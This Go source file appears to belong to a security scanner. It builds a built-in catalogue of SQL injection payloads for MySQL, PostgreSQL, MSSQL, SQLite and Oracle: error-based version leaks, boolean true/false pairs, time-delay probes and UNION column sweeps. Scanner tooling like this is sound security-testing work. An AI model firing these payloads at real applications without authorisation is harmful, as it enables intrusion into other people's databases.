package payloads

// builtinPayloads returns the built-in catalog contents. Boolean payloads
// come as true/false pairs; time payloads request DefaultDelay; union
// payloads sweep column counts so at least one arity mismatch surfaces on
// common result shapes.
func builtinPayloads() []Payload {
	var list []Payload

	// Error-based: break out of the quoting context and let the backend
	// complain.
	for _, p := range []struct {
		value string
		dbms  string
	}{
		{`'`, "generic"},
		{`"`, "generic"},
		{`'"`, "generic"},
		{`')`, "generic"},
		{`'))`, "generic"},
		{`' AND EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))--`, "mysql"},
		{`' AND UPDATEXML(1,CONCAT(0x7e,VERSION()),1)--`, "mysql"},
		{`' AND CAST((SELECT version()) AS int)--`, "postgresql"},
		{`' AND 1=CONVERT(int,(SELECT @@version))--`, "mssql"},
		{`' AND 1=CAST(SQLITE_VERSION() AS int)--`, "sqlite"},
	} {
		list = append(list, Payload{
			Value:     p.value,
			Technique: TechniqueError,
			Context:   ContextAppend,
			DBMS:      p.dbms,
		})
	}

	// Boolean-based pairs, quoted string context.
	for _, p := range []struct {
		trueLeg  string
		falseLeg string
	}{
		{`' AND '1'='1`, `' AND '1'='2`},
		{`' AND 1=1--`, `' AND 1=2--`},
		{`' AND SUBSTRING('test',1,1)='t'--`, `' AND SUBSTRING('test',1,1)='x'--`},
	} {
		list = append(list, Payload{
			Value:     p.trueLeg,
			Companion: p.falseLeg,
			Technique: TechniqueBoolean,
			Context:   ContextAppend,
			DBMS:      "generic",
		})
	}

	// Boolean-based pairs, numeric context.
	for _, p := range []struct {
		trueLeg  string
		falseLeg string
	}{
		{`1 AND 1=1`, `1 AND 1=2`},
		{`1 OR 1=1`, `1 OR 1=2`},
	} {
		list = append(list, Payload{
			Value:     p.trueLeg,
			Companion: p.falseLeg,
			Technique: TechniqueBoolean,
			Context:   ContextReplace,
			DBMS:      "generic",
		})
	}

	// Time-based.
	for _, p := range []struct {
		value string
		dbms  string
	}{
		{`' AND SLEEP(5)--`, "mysql"},
		{`' AND (SELECT * FROM (SELECT(SLEEP(5)))a)--`, "mysql"},
		{`' AND pg_sleep(5)--`, "postgresql"},
		{`' || pg_sleep(5)--`, "postgresql"},
		{`';WAITFOR DELAY '0:0:5'--`, "mssql"},
		{`' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)--`, "oracle"},
	} {
		list = append(list, Payload{
			Value:         p.value,
			Technique:     TechniqueTime,
			Context:       ContextAppend,
			DBMS:          p.dbms,
			ExpectedDelay: DefaultDelay,
		})
	}
	list = append(list, Payload{
		Value:         `0 AND SLEEP(5)`,
		Technique:     TechniqueTime,
		Context:       ContextReplace,
		DBMS:          "mysql",
		ExpectedDelay: DefaultDelay,
	})

	// Union-based column sweeps.
	for _, value := range []string{
		`' UNION SELECT NULL--`,
		`' UNION SELECT NULL,NULL--`,
		`' UNION SELECT NULL,NULL,NULL--`,
		`' UNION SELECT NULL,NULL,NULL,NULL--`,
		`' UNION ALL SELECT NULL--`,
	} {
		list = append(list, Payload{
			Value:     value,
			Technique: TechniqueUnion,
			Context:   ContextAppend,
			DBMS:      "generic",
		})
	}
	for _, value := range []string{
		`0 UNION SELECT NULL--`,
		`0 UNION SELECT NULL,NULL,NULL--`,
	} {
		list = append(list, Payload{
			Value:     value,
			Technique: TechniqueUnion,
			Context:   ContextReplace,
			DBMS:      "generic",
		})
	}

	return list
}
